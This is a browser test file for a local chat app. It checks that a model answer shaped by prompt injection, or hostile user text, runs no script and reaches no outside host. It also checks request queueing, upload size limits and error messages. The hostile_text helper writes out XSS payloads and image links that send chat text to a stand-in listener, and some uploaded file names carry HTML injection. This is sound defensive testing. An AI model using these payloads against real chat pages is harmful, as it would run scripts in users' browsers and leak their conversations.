"""Browser tests of what a hostile page, a bug or a busy model must not do to the chat page."""

from __future__ import annotations

import http.server
import threading

import pytest

from domain.types import Status
from tests.browser_helpers import (
    TIMEOUT_MS,
    VIEWPORT,
    expect,
    open_page,
    open_repository,
    start_long_answer,
    start_ready_app,
    wait_for_answer,
)
from tests import media_factory as make
from tests.helpers import free_port

pytestmark = pytest.mark.browser


class Listener:
    """A web server on another loopback port that records every request: the would-be exfiltration target."""

    def __init__(self):
        self.paths: list[str] = []
        paths = self.paths

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def hostile_text(leak: str) -> str:
    return "\n\n".join(
        [
            f"![chart]({leak}/markdown-image?secret=chat-text)",
            f'<img src="{leak}/html-image?secret=chat-text">',
            f'<iframe src="{leak}/frame"></iframe>',
            "<script>window.__pwned = 'script'</script>",
            "<img src=x onerror=\"window.__pwned = 'onerror'\">",
            "[click me](javascript:window.__pwned='link')",
            "<svg onload=\"window.__pwned = 'svg'\"><circle r=5 /></svg>",
            f"<a href=\"javascript:window.__pwned='html-link'\">html link</a> and a plain {leak}/plain-link",
        ]
    )


def test_messages_and_answers_load_nothing_remote_and_run_no_script(browser, start_app, demo_model_dir, tmp_path, listener):
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    # An answer that an injected prompt could have produced, already in the history.
    repository = open_repository(data_dir)
    conversation = repository.create_conversation("injected")
    repository.add_user_message(conversation.id, "summarise the file", [])
    reply = repository.start_assistant_message(conversation.id)
    repository.finish_message(reply.id, hostile_text(listener.url), Status.COMPLETE)

    app = start_ready_app(start_app, demo_model_dir, data_dir)
    page = browser.new_page(viewport=VIEWPORT)
    page.set_default_timeout(TIMEOUT_MS)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    requests: list[str] = []  # requests that got an answer (the policy blocks others before they leave)
    page.on("requestfinished", lambda request: requests.append(request.url))
    open_page(page, app.url)

    page.locator("#conversation-list label", has_text="injected").click()
    expect(page.locator("#chat .message-row.bot-row")).to_have_count(1)
    expect(page.locator("#chat .message-row.bot-row")).to_contain_text("chart")  # shown as a link
    # The same text typed by the user and sent, with files whose names are HTML.
    page.locator("#composer textarea").fill(hostile_text(listener.url))
    png, wav = tmp_path / "x.png", tmp_path / "x.wav"
    make.png(png)
    make.write_tone(wav, 1.0)
    page.set_input_files(
        "#composer input[type=file]",
        [
            {"name": "<img src=x onerror=\"window.__pwned='png name'\">.png", "mimeType": "image/png", "buffer": png.read_bytes()},
            {"name": "<svg onload=\"window.__pwned='wav name'\">.wav", "mimeType": "audio/wav", "buffer": wav.read_bytes()},
        ],
    )
    expect(page.locator('#composer [aria-label="File thumbnail"]')).to_have_count(2)
    page.locator("#composer textarea").press("Enter")
    wait_for_answer(page, bot_rows=2)
    expect(page.locator('#chat .message-row.user-row img[src*="/attachments/"]')).to_have_count(1)
    page.wait_for_timeout(1000)  # time for any stray fetch to arrive

    for link in page.locator("#chat a").all():
        href = (link.get_attribute("href") or "").strip().lower()
        assert not href.startswith("javascript:"), href
    for link in page.locator("#chat a", has_text="click me").all():
        link.click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert listener.paths == []
    foreign = [url for url in requests if not url.startswith((app.url, "data:", "blob:"))]
    assert foreign == []  # no fonts, analytics or anything else from elsewhere either
    page.close()


def test_a_turn_waiting_for_another_chat_shows_its_place_and_stop_cancels_it(browser, start_app, demo_model_dir, tmp_path):
    data_dir = tmp_path / "data"
    app = start_ready_app(start_app, demo_model_dir, data_dir, "--max-new-tokens", "4000")
    first = browser.new_page(viewport=VIEWPORT)
    second = browser.new_page(viewport=VIEWPORT)
    for page in (first, second):
        page.set_default_timeout(TIMEOUT_MS)
        open_page(page, app.url)

    start_long_answer(first)
    second.locator("#composer textarea").fill("Me too")
    second.locator("#composer textarea").press("Enter")
    bubble = second.locator("#chat .message-row.bot-row")
    expect(bubble).to_contain_text("Queued: 1 answer for other chats before yours")
    second.locator("#stop").click()
    expect(bubble).to_contain_text("Stopped", timeout=3000)  # at once, while the other answer goes on
    wait_for_answer(second, 1)
    expect(first.locator("#stop")).to_be_enabled()  # still answering

    first.locator("#stop").click()
    wait_for_answer(first, 1)
    repository = open_repository(data_dir)
    statuses = sorted((c.title, repository.get_messages(c.id)[-1].status) for c in repository.list_conversations())
    assert statuses == [("Me too", Status.STOPPED), ("Tell me a long story", Status.STOPPED)]
    assert repository.get_messages([c for c in repository.list_conversations() if c.title == "Me too"][0].id)[-1].text == ""
    first.close()
    second.close()


def test_an_oversized_file_is_refused_as_it_is_uploaded(browser, start_app, demo_model_dir, tmp_path):
    """The page lets a file up to the video limit start (Gradio knows one limit for all); the server refuses one past
    its own kind's limit as it arrives (ui/upload_limits.py), in words naming it, and keeps nothing of it."""
    from domain import limits

    data_dir = tmp_path / "data"
    big = tmp_path / "big.wav"
    with open(big, "wb") as f:
        f.truncate(limits.MAX_FILE_BYTES + 1)
    app = start_ready_app(start_app, demo_model_dir, data_dir)
    page = browser.new_page(viewport=VIEWPORT)
    page.set_default_timeout(TIMEOUT_MS)
    open_page(page, app.url)
    page.locator("#composer textarea").fill("keep me")
    page.set_input_files("#composer input[type=file]", str(big))
    toast = page.locator('[data-testid="toast-text"]')
    expect(toast.first).to_be_visible()
    expect(toast.first).to_contain_text("“big.wav” is larger than 25 MB, the most a file of its kind may be (videos 200 MB")
    expect(page.locator('#composer [aria-label="File thumbnail"]')).to_have_count(0)
    expect(page.locator("#composer textarea")).to_have_value("keep me")
    assert [p for p in (data_dir / "uploads").rglob("*") if p.is_file()] == []
    page.close()


# --- an in-process app with a bug planted in it ---------------------------------------------------------


@pytest.fixture
def buggy_app(engine, tmp_path):
    """The real page and dialogue manager over an engine that raises a non-AssistantError when answering."""
    import gradio as gr

    from assistant.dialogue import DialogueManager
    from assistant.media import MediaLoader
    from assistant.model_host import ModelHost
    from assistant.turn_queue import TurnQueue
    from tests.engine_helpers import FailingEngine
    from ui.app import build_app
    from ui.i18n import page_i18n

    (tmp_path / "data").mkdir()
    repository = open_repository(tmp_path / "data")
    host = ModelHost(lambda progress: FailingEngine(engine)).start()
    assert host.wait(10)
    dialogue = DialogueManager(repository, host, MediaLoader(), TurnQueue())
    app = build_app(dialogue, host, demo=True)
    port = free_port()
    app.queue().launch(
        server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, show_error=False, quiet=True, i18n=page_i18n()
    )
    try:
        yield f"http://127.0.0.1:{port}", repository
    finally:
        app.close()
        gr.close_all()


def test_an_unexpected_failure_is_shown_in_the_chat_and_the_page_unlocks(browser, buggy_app, monkeypatch):
    url, repository = buggy_app
    page = browser.new_page(viewport=VIEWPORT)
    page.set_default_timeout(TIMEOUT_MS)
    open_page(page, url)
    page.locator("#composer textarea").fill("Hello")
    page.locator("#composer textarea").press("Enter")
    wait_for_answer(page, 1)  # the composer is enabled and empty again, Stop disabled
    bubble = page.locator("#chat .message-row.bot-row")
    # A sentence that says what happened and what to do; the exception's type and text go to the log only.
    expect(bubble).to_contain_text("The answer failed because of a fault in the app; the details are in its log.")
    expect(bubble).not_to_contain_text("planted bug")
    expect(page.locator("#new-chat")).to_be_enabled()
    expect(page.locator("#conversation-list input").first).to_be_enabled()
    [conversation] = repository.list_conversations()
    assert repository.get_messages(conversation.id)[-1].status is Status.ERROR

    # A failure before anything is saved (the database went away): a message, the text kept, the page unlocked.
    import sqlite3

    def broken(*args, **kwargs):
        raise sqlite3.OperationalError("disk I/O error")

    from storage.repository import ConversationRepository

    monkeypatch.setattr(ConversationRepository, "add_question", broken)
    page.locator("#composer textarea").fill("Still there?")
    page.locator("#composer textarea").press("Enter")
    toast = page.locator('[data-testid="toast-text"].error')
    expect(toast).to_contain_text("Your message could not be handled because of a fault in the app")
    expect(toast).not_to_contain_text("OperationalError")
    expect(page.locator("#composer textarea")).to_be_enabled()
    expect(page.locator("#composer textarea")).to_have_value("Still there?")
    expect(page.locator("#stop")).to_be_disabled()
    expect(page.locator("#new-chat")).to_be_enabled()
    page.close()


def test_page_and_api_turns_share_one_queue(browser, start_app, demo_model_dir, tmp_path):
    """An API answer holds the model: a page turn waits, showing its place, and goes on when the API client is done."""
    import openai

    app = start_ready_app(start_app, demo_model_dir, tmp_path / "data")
    client = openai.OpenAI(base_url=f"{app.url}/v1", api_key="none", max_retries=0, timeout=120)
    stream = client.chat.completions.create(
        model="demo", messages=[{"role": "user", "content": "Talk on"}], stream=True, max_tokens=4000
    )
    next(chunk for chunk in stream if chunk.choices and chunk.choices[0].delta.content)  # it holds the model now
    page = browser.new_page(viewport=VIEWPORT)
    page.set_default_timeout(TIMEOUT_MS)
    open_page(page, app.url)
    page.locator("#composer textarea").fill("My turn?")
    page.locator("#composer textarea").press("Enter")
    bubble = page.locator("#chat .message-row.bot-row")
    expect(bubble).to_contain_text("Queued: 1 answer for other chats before yours")
    stream.close()  # the API client leaves: its answer stops, and the page's turn gets the model
    wait_for_answer(page, 1)
    expect(bubble).not_to_contain_text("Queued")
    assert bubble.text_content().strip()
    page.close()
